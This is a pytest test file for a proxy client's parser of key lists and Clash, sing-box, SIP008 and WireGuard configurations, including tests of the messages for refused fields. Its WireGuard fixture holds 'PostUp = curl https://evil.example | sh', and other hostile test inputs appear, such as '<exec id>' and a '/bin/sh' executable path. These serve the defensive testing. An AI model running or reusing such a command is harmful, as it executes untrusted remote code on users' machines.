"""Texts with many keys: lists, bundles and configurations, with the same values as links, and what is refused."""

from __future__ import annotations

import base64
import json
import sys
from collections.abc import Mapping

import pytest

from proxy.model import Destination
from proxy.wire.keys.fields import Allowed, Fault, KeyRefused
from proxy.wire.keys.notations import YAML_MISSING
from proxy.wire.keys.pasted import TEXT_LIMIT, Form, form_of
from proxy.wire.keys.reader import Collection, read_collection, read_key
from proxy.wire.keys.values import (
    Amnezia,
    Grpc,
    Http2,
    HttpHeader,
    Key,
    Reality,
    RelayLink,
    Ssh,
    Tls,
    Trojan,
    Vless,
    Vmess,
    WebSocket,
    WireGuard,
    Xhttp,
)
from tests.support.rows import each_row
from tests.wire.keys.made_keys import (
    ECH,
    ECH_BYTES,
    GOOD,
    PBK,
    PIN,
    SECRET,
    SERVER,
    UNCHECKED,
    UUID,
    WEAKER,
    WG_KEY,
    WG_PEER,
    X25519,
    b64,
)

AT = Destination("relay.example", 443)
CLASH_SERVER = {"name": "One", "server": "relay.example", "port": 443}
SING_BOX_SERVER = {"tag": "One", "server": "relay.example", "server_port": 443}
WORD = "PRIVATE"  # apart, since no file of the project has a key
PEM = f"-----BEGIN OPENSSH {WORD} KEY-----\nAAAA\n-----END OPENSSH {WORD} KEY-----"


def clash(*proxies: Mapping[str, object], form: str = "block") -> str:
    """Writes a Clash configuration as people have it: with other sections around."""
    import yaml

    if form == "block":
        text = yaml.safe_dump({"proxies": list(proxies)}, allow_unicode=True, sort_keys=False)
    else:
        lines = (yaml.safe_dump(proxy, default_flow_style=True, width=9999, sort_keys=False) for proxy in proxies)
        text = "proxies:\n" + "".join(f"  - {line}" for line in lines)
    return f"# a configuration\nmixed-port: 7890\n{text}rules:\n  - MATCH,One\n"


def sing_box(*outbounds: Mapping[str, object]) -> str:
    return json.dumps({"log": {"level": "info"}, "outbounds": [*outbounds, {"type": "direct", "tag": "d"}]})


def only(text: str, allowed: Allowed | None = None) -> Key | RelayLink:
    """Reads a text with one key. Raises KeyRefused for one that is not taken."""
    (item,) = read_collection(text, allowed or Allowed()).items
    if isinstance(item, KeyRefused):
        raise item
    return item


# -- links in lines, and in base64 -------------------------------------------------------------------------------------

LINES = "\n".join(["# a list", "", *(link for link, _ in GOOD), f"vless://{SERVER}?foo=1", "snell://x"])


WINDOWS_LINES = LINES.replace("\n", "\r\n")


@each_row(
    "text",
    [
        LINES,
        f"\ufeff{WINDOWS_LINES}",
        b64(LINES),
        b64(LINES).rstrip("="),
        b64(WINDOWS_LINES),
        base64.encodebytes(LINES.encode()).decode(),
        base64.urlsafe_b64encode(LINES.encode()).decode(),
    ],
)
def test_a_list_of_links_is_read_in_its_order(text: str) -> None:
    found = read_collection(text)
    assert found.form in (Form.LINKS, Form.BUNDLE)
    assert found.items[: len(GOOD)] == tuple(key for _, key in GOOD)
    faults = [(item.fault, str(item)) for item in found.items[len(GOOD) :] if isinstance(item, KeyRefused)]
    assert faults == [
        (Fault.UNKNOWN, f"field foo {WEAKER}"),
        (Fault.UNSUPPORTED, "Snell is not supported"),
    ]


def test_relays_among_links_are_ordinary_ones() -> None:
    bundle = b64(
        f"socks://{b64('me:p@ss')}@h.example:1080#One\nhttps://me:x@h.example:8443#Two\n"
        "tg://socks?server=h.example&port=1\ntg://socks?port=1\nftp://h.example\n"
    )
    *relays, incomplete, other = read_collection(bundle).items
    assert relays == [
        RelayLink("socks5h://me:p%40ss@h.example:1080#One", ""),
        RelayLink("https://me:x@h.example:8443#Two", ""),
        RelayLink("socks5h://h.example:1", ""),
    ]
    assert str(incomplete).startswith("this Telegram link names no server or no port")
    assert str(other) == "it is neither a key nor a relay"


# -- the same values from configurations -------------------------------------------------------------------------------


def vless(**fields: object) -> Vless:
    return Vless(AT, "One", UUID, **({"encryption": "", "uses_vision": False, "tls": None, "transport": None} | fields))  # type: ignore[arg-type]


def vmess(**fields: object) -> Vmess:
    return Vmess(AT, "One", UUID, **({"alter_id": 0, "cipher": "auto", "tls": None, "transport": None} | fields))  # type: ignore[arg-type]


WIREGUARD = WireGuard(
    AT, "One", X25519, bytes(range(32, 64)), None, ("10.0.0.2/32",), ("0.0.0.0/0",), b"\1\2\3", 1408, 0, None
)
CLASH_KEYS: list[tuple[dict[str, object], Key]] = [
    ({"type": "vless", "uuid": UUID, "udp": True, "tls": False}, vless()),
    (
        {"type": "vless", "uuid": UUID, "tls": True, "servername": "a.example", "flow": "xtls-rprx-vision",
         "client-fingerprint": "chrome", "reality-opts": {"public-key": PBK, "short-id": "0123abcd"}, "network": "tcp",
         "smux": {"enabled": False}, "packet-encoding": "xudp", "encryption": "", "alpn": None},
        vless(uses_vision=True, tls=Tls("a.example", client="chrome", reality=Reality(X25519, b"\x01\x23\xab\xcd"))),
    ),
    (
        {"type": "vless", "uuid": UUID, "tls": True, "network": "ws", "alpn": ["h2", "http/1.1"],
         "skip-cert-verify": False, "fingerprint": PIN.hex(":").upper(), "ech-opts": {"enable": True, "config": ECH},
         "ws-opts": {"path": "/w", "headers": {"Host": "a.example", "X-A": "b"}, "max-early-data": 2048,
                     "early-data-header-name": "X-Early"}},
        vless(tls=Tls(alpn=("h2", "http/1.1"), pin=PIN, ech=ECH_BYTES),
              transport=WebSocket("a.example", "/w", (("X-A", "b"),), 2048, "X-Early")),
    ),
    ({"type": "vless", "uuid": UUID, "network": "ws", "ws-opts": {"path": "/u", "v2ray-http-upgrade": True}},
     vless(transport=WebSocket("", "/u", is_upgrade=True))),
    ({"type": "vless", "uuid": UUID, "network": "xhttp",
      "xhttp-opts": {"path": "/x", "host": "a.example", "mode": "packet-up", "no-grpc-header": True,
                     "x-padding-bytes": "100-1000", "reuse-settings": {"max-concurrency": "16-32"}}},
     vless(transport=Xhttp("a.example", "/x", "packet-up", (), "100-1000", has_grpc_header=False))),
    ({"type": "vmess", "uuid": UUID, "alterId": 0, "cipher": "auto", "network": "http",
      "http-opts": {"method": "GET", "path": ["/", "/v"], "headers": {"Host": ["a.example"]}}},
     vmess(transport=HttpHeader(("a.example",), ("/", "/v"), "GET"))),
    ({"type": "vmess", "uuid": UUID, "alterId": 64, "cipher": "none", "tls": True, "network": "h2",
      "h2-opts": {"host": ["a.example"], "path": "/"}},
     vmess(alter_id=64, cipher="none", tls=Tls(), transport=Http2(("a.example",), "/"))),
    ({"type": "trojan", "password": SECRET, "sni": "a.example", "network": "grpc",
      "grpc-opts": {"grpc-service-name": "s"}},
     Trojan(AT, "One", SECRET, Tls("a.example"), Grpc("s"))),
    ({"type": "trojan", "password": SECRET, "reality-opts": {"public-key": PBK, "short-id": "0123abcd"}},
     Trojan(AT, "One", SECRET, Tls(reality=Reality(X25519, b"\x01\x23\xab\xcd")), None)),
    ({"type": "wireguard", "private-key": WG_KEY, "public-key": WG_PEER, "ip": "10.0.0.2", "reserved": [1, 2, 3],
      "allowed-ips": ["0.0.0.0/0"], "mtu": 1408, "udp": True}, WIREGUARD),
    ({"type": "ssh", "username": "me", "private-key": PEM, "host-key": ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA"]},
     Ssh(AT, "One", "me", "", PEM, "", ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA",))),
]  # fmt: skip
BY_LINK: list[tuple[dict[str, object], dict[str, object], str]] = [
    # Clash, sing-box, link
    (
        {"type": "ss", "cipher": "aes-256-gcm", "password": SECRET},
        {"type": "shadowsocks", "method": "aes-256-gcm", "password": SECRET},
        f"ss://{b64('aes-256-gcm:' + SECRET)}@relay.example:443#One",
    ),
    (
        {"type": "ss", "cipher": "aes-256-gcm", "password": SECRET, "plugin": "obfs",
         "plugin-opts": {"mode": "tls", "host": "a.example"}, "udp-over-tcp": False},
        {"type": "shadowsocks", "method": "aes-256-gcm", "password": SECRET, "plugin": "obfs-local",
         "plugin_opts": "obfs=tls;obfs-host=a.example"},
        f"ss://{b64('aes-256-gcm:' + SECRET)}@relay.example:443"
        "?plugin=obfs-local%3Bobfs%3Dtls%3Bobfs-host%3Da.example#One",
    ),
    (
        {"type": "ss", "cipher": "aes-256-gcm", "password": SECRET, "plugin": "v2ray-plugin",
         "plugin-opts": {"mode": "websocket", "tls": True, "host": "a.example", "path": "/w", "mux": True}},
        {"type": "shadowsocks", "method": "aes-256-gcm", "password": SECRET, "plugin": "v2ray-plugin",
         "plugin_opts": "tls;host=a.example;path=/w"},
        f"ss://{b64('aes-256-gcm:' + SECRET)}@relay.example:443"
        "?plugin=v2ray-plugin%3Btls%3Bhost%3Da.example%3Bpath%3D/w#One",
    ),
    (
        {"type": "hysteria2", "password": SECRET, "obfs": "salamander", "obfs-password": "x", "up": "30 Mbps",
         "sni": "a.example", "alpn": ["h3"]},
        {"type": "hysteria2", "password": SECRET, "obfs": {"type": "salamander", "password": "x"}, "up_mbps": 30,
         "tls": {"enabled": True, "server_name": "a.example", "alpn": "h3"}},
        f"hy2://{SECRET}@relay.example:443?obfs=salamander&obfs-password=x&sni=a.example&alpn=h3#One",
    ),
    (
        {"type": "tuic", "uuid": UUID, "password": SECRET, "congestion-controller": "bbr", "reduce-rtt": True},
        {"type": "tuic", "uuid": UUID, "password": SECRET, "congestion_control": "bbr", "heartbeat": "10s",
         "tls": {"enabled": True}},
        f"tuic://{UUID}:{SECRET}@relay.example:443?congestion_control=bbr#One",
    ),
    (
        {"type": "anytls", "password": SECRET, "client-fingerprint": "chrome", "idle-session-timeout": 30},
        {"type": "anytls", "password": SECRET, "min_idle_session": 5,
         "tls": {"enabled": True, "utls": {"enabled": True, "fingerprint": "chrome"}}},
        f"anytls://{SECRET}@relay.example:443?fp=chrome#One",
    ),
    (
        {"type": "vless", "uuid": UUID, "tls": True, "servername": "a.example", "flow": "xtls-rprx-vision",
         "reality-opts": {"public-key": PBK}},
        {"type": "vless", "uuid": UUID, "flow": "xtls-rprx-vision", "network": "tcp", "domain_resolver": "local",
         "tls": {"enabled": True, "server_name": "a.example", "reality": {"enabled": True, "public_key": PBK}}},
        f"vless://{SERVER}?security=reality&pbk={PBK}&sni=a.example&flow=xtls-rprx-vision#One",
    ),
    (
        {"type": "vmess", "uuid": UUID, "alterId": 0, "cipher": "auto", "network": "ws",
         "ws-opts": {"path": "/w", "headers": {"Host": "a.example"}}},
        {"type": "vmess", "uuid": UUID, "security": "auto", "alter_id": 0,
         "transport": {"type": "ws", "path": "/w", "headers": {"Host": "a.example"}}, "multiplex": {"enabled": False}},
        f"vmess://{SERVER}?type=ws&path=/w&host=a.example#One",
    ),
    (
        {"type": "trojan", "password": SECRET, "network": "ws", "ws-opts": {"v2ray-http-upgrade": True, "path": "/u"}},
        {"type": "trojan", "password": SECRET, "tls": {"enabled": True},
         "transport": {"type": "httpupgrade", "path": "/u"}},
        f"trojan://{SECRET}@relay.example:443?type=httpupgrade&path=/u#One",
    ),
]  # fmt: skip


@each_row(("proxy", "key"), CLASH_KEYS)
def test_a_clash_configuration(proxy: dict[str, object], key: Key) -> None:
    for form in ("block", "flow"):
        found = read_collection(clash(CLASH_SERVER | proxy, {"name": "d", "type": "direct"}, form=form))
        assert found == Collection(Form.CLASH, (key,))
    assert only(json.dumps({"proxies": [CLASH_SERVER | proxy]})) == key


@each_row(("proxy", "outbound", "link"), BY_LINK)
def test_each_notation_has_the_same_value(proxy: dict[str, object], outbound: dict[str, object], link: str) -> None:
    key = read_key(link)
    assert only(clash(CLASH_SERVER | proxy)) == key
    assert only(sing_box(SING_BOX_SERVER | outbound)) == key


def test_http_means_two_things_in_sing_box() -> None:
    transport = {"type": "http", "host": ["a.example"], "path": "/h", "method": "PUT"}
    plain = SING_BOX_SERVER | {"type": "vless", "uuid": UUID, "transport": transport}
    assert only(sing_box(plain)) == vless(transport=HttpHeader(("a.example",), ("/h",), "PUT"))
    encrypted = plain | {"tls": {"enabled": True}}
    assert only(sing_box(encrypted)) == vless(tls=Tls(), transport=Http2(("a.example",), "/h"))


def test_wireguard_of_sing_box_is_an_outbound_or_an_endpoint() -> None:
    peer = {"public_key": WG_PEER, "allowed_ips": ["0.0.0.0/0"], "reserved": [1, 2, 3]}
    fields = {"type": "wireguard", "tag": "One", "private_key": WG_KEY, "mtu": 1408}
    endpoint = fields | {"address": ["10.0.0.2/32"], "peers": [peer | {"address": "relay.example", "port": 443}]}
    assert only(json.dumps({"endpoints": [endpoint]})) == WIREGUARD
    old = fields | {"local_address": "10.0.0.2/32", "peers": [peer | {"server": "relay.example", "server_port": 443}]}
    assert only(sing_box(old)) == WIREGUARD


SIP008 = {
    "version": 1,
    "servers": [
        {"id": "27b8a625-4f4b-4428-9f0f-8a2317db7c79", "remarks": "One", "server": "relay.example",
         "server_port": 443, "password": SECRET, "method": "aes-256-gcm", "plugin": "obfs-local",
         "plugin_opts": "obfs=http;obfs-host=a.example"},
        {"server": "other.example", "server_port": 1, "password": SECRET, "method": "table"},
    ],
    "bytes_used": 274877906944,
}  # fmt: skip


def test_a_list_by_sip008() -> None:
    found = read_collection(json.dumps(SIP008, indent=1))
    assert found.form is Form.SHADOWSOCKS
    link = f"ss://{b64('aes-256-gcm:' + SECRET)}@relay.example:443?plugin=obfs-local;obfs=http;obfs-host=a.example#One"
    assert found.items[0] == read_key(link)
    assert "table does not protect what is sent" in str(found.items[1])


def test_the_json_that_an_outline_address_answers() -> None:
    answer = {"server": "relay.example", "server_port": 8388, "password": SECRET, "method": "aes-256-gcm"}
    assert only(json.dumps(answer)) == read_key(f"ss://{b64('aes-256-gcm:' + SECRET)}@relay.example:8388")
    with pytest.raises(KeyRefused, match="field prefix: bytes of Outline before the first packet are not supported"):
        only(json.dumps(answer | {"prefix": "\u0016\u0003\u0001"}))


CONF = f"""\
[Interface]
# of a friend
PrivateKey = {WG_KEY}
Address = 10.0.0.2/32
Address = 2001:db8::2/128  # twice is a list
ListenPort = 51820
PostUp = curl https://evil.example | sh
Table = off

[Peer]
PublicKey = {WG_PEER}
AllowedIPs = 0.0.0.0/0, ::/0
Endpoint = relay.example:443
PersistentKeepalive = 25
"""


def test_a_configuration_of_wireguard() -> None:
    addresses, allowed = ("10.0.0.2/32", "2001:db8::2/128"), ("0.0.0.0/0", "::/0")
    key = WireGuard(AT, "", X25519, bytes(range(32, 64)), None, addresses, allowed, b"", 0, 25, None)
    assert read_collection(CONF) == Collection(Form.WIREGUARD, (key,))
    assert only(CONF.upper().replace(WG_KEY.upper(), WG_KEY).replace(WG_PEER.upper(), WG_PEER)) == key
    assert only(CONF.replace("relay.example:443", "[2001:db8::7]:443")).server.host == "2001:db8::7"  # type: ignore[union-attr]
    assert only(CONF.replace("ListenPort = 51820", "DNS = 192.0.2.53, corp.example")) == key
    with pytest.raises(KeyRefused, match=r"field \[Peer\] has more than one entry, and Byway takes one"):
        only(f"{CONF}[Peer]\nPublicKey = {WG_PEER}\n")
    with pytest.raises(KeyRefused, match="the key has no host"):
        only(CONF.replace("Endpoint", "#Endpoint"))
    with pytest.raises(KeyRefused, match="it has no section"):
        only(CONF.partition("[Peer]")[0])
    with pytest.raises(KeyRefused, match=f"field New {WEAKER}"):
        only(CONF.replace("Table", "New"))


def test_a_configuration_of_amneziawg() -> None:
    junk = "Jc = 4\nJmin = 40\nJmax = 70\nS1 = 1\nS2 = 2\nS3 = 3\nS4 = 4\nH1 = 11\nH2 = 12\nH3 = 13\nH4 = 14-19\n"
    text = CONF.replace("Table = off\n", f"{junk}I1 = <b 0xff><r 16><t>\n")
    key = only(text)
    assert isinstance(key, WireGuard)
    assert key.amnezia == Amnezia((4, 40, 70), (1, 2, 3, 4), ("11", "12", "13", "14-19"),
                                  ("<b 0xff><r 16><t>", "", "", "", ""))  # fmt: skip
    for fault in ("I1 = <exec id>", "I1 = <r 1000>", "H1 = many", "H1 = 4294967296", "H2 = 9-5", "Jc = 129", "Jc = -1",
                  "S1 = 1281", "Jmax = 1281", "Jmin = 71"):  # fmt: skip
        field = fault.partition(" ")[0]
        lines = [fault if line.startswith(f"{field} ") else line for line in text.splitlines()]
        with pytest.raises(KeyRefused, match=f"field {field} is not"):
            only("\n".join(lines))
    with pytest.raises(KeyRefused, match=r"the types of packets \(H1 to H4\) are not four different ones"):
        only(text.replace("H1 = 11", "H1 = 14"))
    with pytest.raises(KeyRefused, match=r"of the packets that are sent first \(I1 to I5\) one before the last is"):
        only(text.replace("I1 =", "I2 ="))


# -- ordinary relays in configurations ---------------------------------------------------------------------------------


def test_relays_in_configurations_are_ordinary_ones() -> None:
    found = read_collection(
        clash(
            {"name": "a", "type": "socks5", "server": "h.example", "port": 1080, "username": "me", "password": "p@s",
             "udp": True},
            {"name": "b", "type": "http", "server": "h.example", "port": 443, "tls": True, "sni": "a.example"},
            {"name": "c", "type": "http", "server": "2001:db8::1", "port": 8080},
            {"name": "d", "type": "socks5", "server": "h.example", "port": 1080, "tls": True},
            {"name": "e", "type": "http", "server": "h.example", "port": 443, "tls": True, "skip-cert-verify": True},
        )
    )  # fmt: skip
    assert found.items[:3] == (
        RelayLink("socks5h://me:p%40s@h.example:1080", "a"),
        RelayLink("https://h.example:443?sni=a.example", "b"),
        RelayLink("http://[2001:db8::1]:8080", "c"),
    )
    assert [str(item) for item in found.items[3:]] == [
        "field tls: SOCKS in TLS is not supported",
        "field skip-cert-verify: the certificate would not be checked; write an https relay with pin=",
    ]
    outbounds = [
        {"type": "socks", "tag": "a", "server": "h.example", "server_port": 1, "version": "4a", "username": "me"},
        {"type": "http", "tag": "b", "server": "h.example", "server_port": 2, "tls": {"enabled": True}},
    ]
    assert read_collection(sing_box(*outbounds)).items == (
        RelayLink("socks4a://me@h.example:1", "a"),
        RelayLink("https://h.example:2", "b"),
    )


# -- what is refused ---------------------------------------------------------------------------------------------------

SECOND = "it names a second server, whose address Byway does not check"


@each_row(
    ("proxy", "sentence"),
    [
        ({"new-option": 1}, f"field new-option {WEAKER}"),
        ({"ws-opts": {"new": 1}}, f"field ws-opts.new {WEAKER}"),
        ({"dialer-proxy": "Two"}, f"field dialer-proxy: {SECOND}"),
        ({"network": "xhttp", "xhttp-opts": {"download-settings": {"server": "192.0.2.9"}}},
         f"field xhttp-opts.download-settings: {SECOND}"),
        ({"tls": True, "ech-opts": {"enable": True, "query-server-name": "a.example"}},
         f"field ech-opts.query-server-name: {SECOND}"),
        ({"tls": True, "ech-opts": {"enable": True}},
         "field ech-opts.enable: ECH whose configuration is asked for by DNS names a second server"),
        ({"tls": True, "skip-cert-verify": True}, f"field skip-cert-verify: {UNCHECKED}"),
        ({"tls": True, "reality-opts": {"short-id": "01"}}, "the key has no public key of REALITY (pbk)"),
        ({"tls": True, "certificate": "./a.pem"},
         "field certificate: it changes which certificates are accepted, or shows one of the client's"),
        ({"smux": {"enabled": True, "protocol": "smux"}},
         "field smux: connections in one another (mux) are not supported"),
        ({"tls": True, "shadow-tls-opts": {"version": 3}},
         "field shadow-tls-opts: another protocol between TLS and this one is not supported"),
        ({"network": "ws", "ws-opts": {"headers": {"Host": "a\r\nX: y"}}},
         "field ws-opts.headers is not printable text of at most 8192 characters"),
        ({"network": "ws", "ws-opts": {"headers": {"a b": "c"}}}, "field ws-opts.headers is not a map of headers"),
        ({"network": "ws", "ws-opts": {"headers": ["Host"]}}, "field ws-opts.headers is not a map of headers"),
        ({"port": 70000}, "the host or the port of the key is not valid: check its spelling"),
        ({"server": ["a.example", "b.example"]}, "field server is not one value"),
        ({"server": ""}, "the key has no host"),
        ({"port": None}, "the key has no port"),
        ({"uuid": None}, "the key has no user"),
        ({"type": "snell"}, "type snell is not supported"),
        ({"type": "../../x"}, "type (with a name that is not shown) is not supported"),
        ({"type": None}, "an entry has no type"),
    ],
)  # fmt: skip
def test_a_field_that_refuses_an_entry_is_named(proxy: dict[str, object], sentence: str) -> None:
    base: dict[str, object] = CLASH_SERVER | {"type": "vless", "uuid": UUID}
    given = base | proxy
    with pytest.raises(KeyRefused) as caught:
        only(clash({field: value for field, value in given.items() if value is not None}))
    assert str(caught.value) == sentence


@each_row(
    ("outbound", "sentence"),
    [
        ({"detour": "other"}, f"field detour: {SECOND}"),
        ({"tls": {"enabled": True, "ech": {"enabled": True}}},
         "field tls.ech.enabled: ECH whose configuration is asked for by DNS names a second server"),
        ({"tls": {"enabled": True, "insecure": True}}, f"field tls.insecure: {UNCHECKED}"),
        ({"tls": {"enabled": True, "certificate_path": "/etc/x"}}, "field tls.certificate_path: it names a file"),
        ({"tls": {"enabled": True, "reality": {"enabled": True}}}, "the key has no public key of REALITY (pbk)"),
        ({"tls": {"enabled": True, "min_version": "1.3"}},
         "field tls.min_version: limits of the TLS version are not supported"),
        ({"tls": {"enabled": True, "fragment": True}},
         "field tls.fragment: how the first packets are cut or disguised is not supported"),
        ({"multiplex": {"enabled": True}}, "field multiplex: connections in one another (mux) are not supported"),
        ({"network": "udp"}, "field network: Byway carries TCP, and no UDP"),
        ({"transport": {"type": "quic"}}, "transport.type=quic is not supported"),
        ({"ws": {"a": {"a": {"a": {"a": {"a": {"a": {"a": {"a": 1}}}}}}}}},
         "the key has too many fields, or too many in each other"),
        ({f"a{number}": 1 for number in range(600)}, "the key has too many fields, or too many in each other"),
        ({"type": "tor", "executable_path": "/bin/sh"}, "type tor is not supported"),
        ({"type": None, "protocol": "vless"}, "configurations of Xray are not read; use the link of the key"),
    ],
)  # fmt: skip
def test_a_field_that_refuses_an_outbound_is_named(outbound: dict[str, object], sentence: str) -> None:
    base: dict[str, object] = SING_BOX_SERVER | {"type": "vless", "uuid": UUID}
    with pytest.raises(KeyRefused) as caught:
        only(sing_box(base | outbound))
    assert str(caught.value) == sentence


def test_a_wireguard_key_has_one_peer_and_its_dns_has_no_effect() -> None:
    base = {"type": "wireguard", "private-key": WG_KEY, "ip": "10.0.0.2", **CLASH_SERVER, "public-key": WG_PEER}
    assert only(clash(base | {"remote-dns-resolve": True, "dns": ["192.0.2.53"]})) == only(clash(base))
    peer = {"server": "relay.example", "port": 443, "public-key": WG_PEER}
    peers = {field: value for field, value in base.items() if field not in peer}
    assert only(clash(peers | {"peers": [peer]})) == only(clash(base))
    with pytest.raises(KeyRefused, match="field peers has more than one entry, and Byway takes one"):
        only(clash(peers | {"peers": [peer, dict(peer)]}))


@each_row(
    ("text", "sentence"),
    [
        ("proxies: []", "it has no key"),
        ("proxies:\n  - a\n  - b\n", "its list of servers has an entry that is not a map"),
        ("proxies:\n  - {type: ss\n", "it is not valid YAML: the fault is in line 3"),
        ("proxies: \x01\n", "it is not valid YAML"),
        ('{"outbounds": [}', "it is not valid JSON: the fault is in line 1"),
        ('{"outbounds": [{"a": NaN}]}', "the JSON has a number that is none (NaN, Infinity)"),
        ('{"outbounds": [{"a": 1, "a": 2}]}', "the JSON gives a field twice"),
        ('{"outbounds": []}', "it has no key"),
        ("[Interface]\nno equals sign\n", "it is not a configuration of WireGuard: it has a line without ="),
        ("a list", "it is of no notation of keys that Byway knows"),
        ("é" * (TEXT_LIMIT // 2 + 1), "it is not text of at most 1024 KiB"),
    ],
)
def test_a_text_that_is_refused_as_a_whole(text: str, sentence: str) -> None:
    with pytest.raises(KeyRefused) as caught:
        only(text)
    assert str(caught.value) == sentence


def test_yaml_is_read_without_libyaml_too(monkeypatch: pytest.MonkeyPatch) -> None:
    import yaml

    proxies = [CLASH_SERVER | proxy for proxy, _ in CLASH_KEYS]
    with_libyaml = read_collection(clash(*proxies))
    monkeypatch.delattr(yaml, "CSafeLoader", raising=False)
    assert read_collection(clash(*proxies)) == with_libyaml
    for text in ("proxies: &a []", "proxies: !!x []", "proxies: [", "proxies: \x01", "proxies: " + "[" * 40):
        with pytest.raises(KeyRefused, match="YAML"):
            read_collection(text)


def test_without_pyyaml_the_sentence_names_how_to_get_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "yaml", None)
    with pytest.raises(KeyRefused) as caught:
        read_collection("proxies: []")
    assert (
        str(caught.value)
        == YAML_MISSING
        == ("it is YAML, which PyYAML reads, and that is not installed; install byway[yaml]")
    )
    assert only(sing_box(SING_BOX_SERVER | {"type": "trojan", "password": "x"})).server == AT  # type: ignore[union-attr]


@each_row(
    ("text", "form"),
    [
        ("", None),
        ("socks5h://h:1", None),
        ("h:1080", None),
        ("tor", None),
        ("abcdefgh", None),
        ('{"error": "not found"}', None),
        ('{"version": 1, "rules": [{"domain": "a.example"}]}', None),
        ("<!doctype html><title>type: x</title>", None),
        ("h:1\nh:2\n", None),
        ("vless://a@h:1", None),
        ("vless://a@h:1\nvless://b@h:1", Form.LINKS),
        (b64("ss://x\n"), Form.BUNDLE),
        ("proxies:\n  - {}", Form.CLASH),
        ("{name: a, type: ss}", Form.CLASH),
        ('{"outbounds": []}', Form.SING_BOX),
        ('[{"type": "vless", "server_port": 1}]', Form.SING_BOX),
        ('{"servers": [{"server_port": 1}]}', Form.SHADOWSOCKS),
        ("# a\n[interface]\n", Form.WIREGUARD),
    ],
)
def test_the_notation_of_a_text(text: str, form: Form | None) -> None:
    assert form_of(text) is form
